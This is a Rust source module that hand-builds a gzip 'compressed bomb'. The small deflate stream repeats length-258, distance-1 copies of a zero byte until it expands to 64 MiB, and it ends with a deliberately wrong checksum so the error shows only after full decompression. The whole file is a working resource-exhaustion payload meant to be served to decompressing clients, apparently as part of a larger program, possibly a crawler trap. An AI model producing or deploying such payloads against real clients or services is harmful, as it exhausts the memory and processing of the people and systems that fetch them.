//! A compressed bomb: a small gzip stream that unpacks to 64 MiB of zeros.
//!
//! Written bit by bit (RFC 1951, fixed Huffman codes; RFC 1952), because one
//! sequence of bits that repeats needs no compressor. The check sum at the
//! end is wrong; who finds that out has unpacked everything.

use std::sync::OnceLock;

/// Bytes that one length-distance pair stands for.
const RUN: usize = 258;

/// Pairs in the stream: 64 MiB.
const RUNS: usize = 64 * 1024 * 1024 / RUN;

/// Bits, least significant first, as deflate packs them.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u8,
}

impl Bits {
    fn push(&mut self, bit: bool) {
        if self.used == 0 {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << self.used;
        }
        self.used = (self.used + 1) % 8;
    }

    /// Huffman codes go in with their most significant bit first.
    fn code(&mut self, code: u16, length: u8) {
        (0..length)
            .rev()
            .for_each(|at| self.push(code >> at & 1 == 1));
    }
}

/// The whole body.
pub(super) fn gzip() -> &'static [u8] {
    static BODY: OnceLock<Vec<u8>> = OnceLock::new();
    BODY.get_or_init(|| {
        let mut bits = Bits::default();
        // Last block, compressed with the fixed codes (01, low bit first).
        bits.push(true);
        bits.push(true);
        bits.push(false);
        // One literal zero, then copies of it: length 258 at distance 1.
        bits.code(0b0011_0000, 8);
        for _ in 0..RUNS {
            bits.code(0b1100_0101, 8);
            bits.code(0, 5);
        }
        bits.code(0, 7);
        let mut body = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        body.append(&mut bits.bytes);
        body.extend_from_slice(&[0; 8]);
        body
    })
}
